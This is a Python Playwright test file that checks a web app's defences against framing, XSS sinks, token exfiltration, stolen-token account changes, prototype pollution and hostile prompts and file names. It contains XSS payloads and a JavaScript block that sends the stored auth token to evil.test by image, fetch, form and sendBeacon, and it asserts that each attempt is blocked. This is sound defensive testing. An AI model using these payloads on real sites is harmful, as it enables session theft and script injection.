"""H03, H04, H09, H17: what a hostile page, word or answer would do to ours, in a real browser."""

import json
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Browser, FilePayload, Page, Route, expect

from tests.browser.conftest import Visit
from tests.browser.looking import ADDRESSES_OF_PAGES, Owner, signed_in
from tests.browser.making import DONE_MS, press_create
from tests.faults.hostile_words import MARKS, WORDS
from tests.support.service import Service
from tools.sandbox.kie.behaviour import Fail

Arrive = Callable[..., Visit]


@pytest.fixture
def member(browser: Browser, service: Service, somebody: Owner) -> Iterator[Visit]:
    visit = signed_in(browser, service, somebody.token)
    yield visit
    visit.context.close()
    assert visit.complaints == []


@pytest.fixture(scope="module")
def framing(service: Service) -> Iterator[str]:
    """A page of somebody else's with each of ours in a frame."""
    frames = "".join(f"<iframe src='{service.url}{path}'></iframe>" for path in ADDRESSES_OF_PAGES)

    class Evil(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(f"<!doctype html><title>Free credits</title>{frames}".encode())

        def log_message(self, *_: object) -> None:
            """Nobody reads it."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Evil) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://localhost:{server.server_port}/"
        server.shutdown()


def test_h03_no_page_is_shown_in_a_frame_of_somebody_else_s(browser: Browser, framing: str) -> None:
    page = browser.new_page()
    told: list[str] = []
    page.on("console", lambda message: told.append(message.text))
    page.goto(framing)
    page.wait_for_load_state("networkidle")
    frames = page.frames[1:]
    assert len(frames) == len(ADDRESSES_OF_PAGES)
    assert {frame.url for frame in frames} == {"chrome-error://chromewebdata/"}
    assert len([line for line in told if "frame-ancestors" in line]) == len(ADDRESSES_OF_PAGES)
    page.close()


SINKS = {
    "markup": "document.body.innerHTML = `<img src=x onerror='window.__hit=1'>`",
    "markup beside": "document.body.insertAdjacentHTML('beforeend', `<svg onload='window.__hit=1'>`)",
    "a frame's markup": "document.createElement('iframe').srcdoc = '<script>parent.__hit=1</script>'",
    "parsed": "new DOMParser().parseFromString('<p>', 'text/html')",
    "a script's text": "document.createElement('script').textContent = 'window.__hit=1'",
    "a script's address": "document.createElement('script').src = 'https://evil.test/a.js'",
    "a timer": "setTimeout('window.__hit=1')",
}


@pytest.mark.parametrize("sink", SINKS)
def test_h04_text_becomes_neither_markup_nor_script(member: Visit, sink: str) -> None:
    page = member.page
    page.goto("/account")
    assert page.evaluate(
        f"() => {{ try {{ {SINKS[sink]}; return 'done' }} catch (error) {{ return error.name }} }}"
    ) in (
        "TypeError",
        "EvalError",
    )
    assert page.evaluate(f"window.{MARKS}") is None
    assert member.complaints
    assert all("TrustedHTML" in line or "TrustedScript" in line or "CSP report" in line for line in member.complaints)
    member.complaints.clear()


def test_h04_a_script_that_ran_all_the_same_could_send_the_token_nowhere(member: Visit) -> None:
    page = member.page
    page.goto("/account")
    sent = page.evaluate(
        """async () => {
            const token = localStorage.gi2_token;
            const image = new Promise(resolve => {
                const beacon = new Image();
                beacon.onload = () => resolve('sent');
                beacon.onerror = () => resolve('refused');
                beacon.src = `http://evil.test/?${token}`;
            });
            const form = Object.assign(document.createElement('form'), {action: 'http://evil.test/', method: 'post'});
            document.body.append(form);
            form.submit();
            return [
                await fetch('http://evil.test/', {method: 'POST', body: token}).then(() => 'sent', () => 'refused'),
                await image,
                navigator.sendBeacon('http://evil.test/', token) && 'queued',
            ];
        }"""
    )
    assert sent[:2] == ["refused", "refused"]
    page.wait_for_timeout(300)
    assert page.url.endswith("/account")
    assert not [line for line in member.complaints if line.startswith("a request to") and "evil" not in line]
    refused = [line for line in member.complaints if line.startswith("CSP report")]
    assert {line.split()[2] for line in refused} == {"connect-src", "img-src", "form-action"}
    member.complaints.clear()


def test_h04_a_stolen_token_alone_neither_changes_the_password_nor_ends_the_account(member: Visit) -> None:
    page = member.page
    page.goto("/account")
    statuses = page.evaluate(
        """async () => {
            const headers = {Authorization: `Bearer ${localStorage.gi2_token}`, 'Content-Type': 'application/json'};
            const call = (method, path, body) =>
                fetch(path, {method, headers, body: JSON.stringify(body)}).then(({status}) => status);
            return [
                await call('POST', '/api/auth/password', {current_password: 'a guess', new_password: 'mine all mine'}),
                await call('PATCH', '/api/me', {email: 'thief@evil.test'}),
                await call('PATCH', '/api/me', {email: 'thief@evil.test', current_password: 'guessed it'}),
                await call('DELETE', '/api/me', {password: 'guessed it'}),
            ];
        }"""
    )
    assert set(statuses) <= {403, 422}
    member.complaints.clear()


POLLUTING: dict[str, Any] = {"polluted": "yes", "isAdmin": True, "innerHTML": WORDS[1], "headers": {"X-Evil": "1"}}


@pytest.mark.parametrize("path", ["/", "/account", "/history", "/pricing"])
def test_h09_an_answer_of_the_api_reaches_no_prototype(member: Visit, path: str) -> None:
    page = member.page

    def poison(route: Route) -> None:
        answer = route.fetch()
        planted = json.dumps(POLLUTING)
        body = answer.text().replace("{", f'{{"__proto__": {planted}, "constructor": {{"prototype": {planted}}}, ', 1)
        route.fulfill(response=answer, body=body)

    for asked in ("**/api/me", "**/api/config", "**/api/generations?*", "**/api/billing"):
        page.route(asked, poison)
    with page.expect_response("**/api/me"):
        page.goto(path)
    page.wait_for_load_state("networkidle")
    assert page.evaluate("[({}).polluted, [].polluted, (() => 0).polluted, Object.polluted]") == [None] * 4
    expect(page.get_by_role("button", name="Sign out", exact=True).first).to_be_visible()


@pytest.mark.long
def test_h09_no_element_takes_the_name_of_something_that_scripts_use(arrive: Arrive) -> None:
    page = arrive().page
    for path in ADDRESSES_OF_PAGES:
        page.goto(path)
        taken = page.evaluate(
            """() => {
                const names = objects => new Set(objects.flatMap(Object.getOwnPropertyNames));
                const ofDocuments = names([document, Document.prototype, Node.prototype, EventTarget.prototype]);
                const ofForms = names([HTMLFormElement, HTMLElement, Element, Node].map(({prototype}) => prototype));
                const scopes = [document, ...[...document.querySelectorAll('template')].map(({content}) => content)];
                const taken = (selector, known) => scopes.flatMap(scope => [...scope.querySelectorAll(selector)])
                    .flatMap(({id, name}) => [id, name]).filter(each => each && known.has(each));
                return [
                    ...taken('form[name], img[name], embed[name], object, iframe[name]', ofDocuments),
                    ...taken('form [name], form [id]', ofForms),
                ];
            }"""
        )
        assert taken == [], path


def test_h17_a_prompt_a_failure_and_a_file_name_are_words(member: Visit, service: Service) -> None:
    page = member.page
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    prompt = f"Hostile from the first word {WORDS[1]} {WORDS[7]}"
    service.sandbox.kie.when("Hostile from", times=1, outcome=Fail(WORDS[0], WORDS[1]))
    page.goto("/create")
    page.get_by_label("Describe your image").fill(prompt)
    press_create(page)
    expect(page.locator("image-tile").first).to_contain_text("3 credits came back", timeout=DONE_MS)
    words_stay_words(page)
    file = FilePayload(name=f"{WORDS[1]}.png", mimeType="image/png", buffer=b"no picture")
    page.locator("reference-images input[type=file]").set_input_files([file])
    expect(page.get_by_text("onerror").last).to_be_visible()
    words_stay_words(page)
    for path in ("/history", "/account"):
        page.goto(path)
        page.wait_for_load_state("networkidle")
        words_stay_words(page)
    assert dialogs == []


def words_stay_words(page: Page) -> None:
    """No script ran, and no element, handler or frame came of any words."""
    assert page.evaluate(f"window.{MARKS}") is None
    assert page.evaluate(
        """() => [...document.querySelectorAll('*')].filter(each =>
            each.getAttributeNames().some(name => name.startsWith('on')) || each.matches('iframe, object, embed, base')
            || (each.matches('script') && !each.src) || each.getAttribute('src') === 'x').length"""
    ) == 0  # fmt: skip
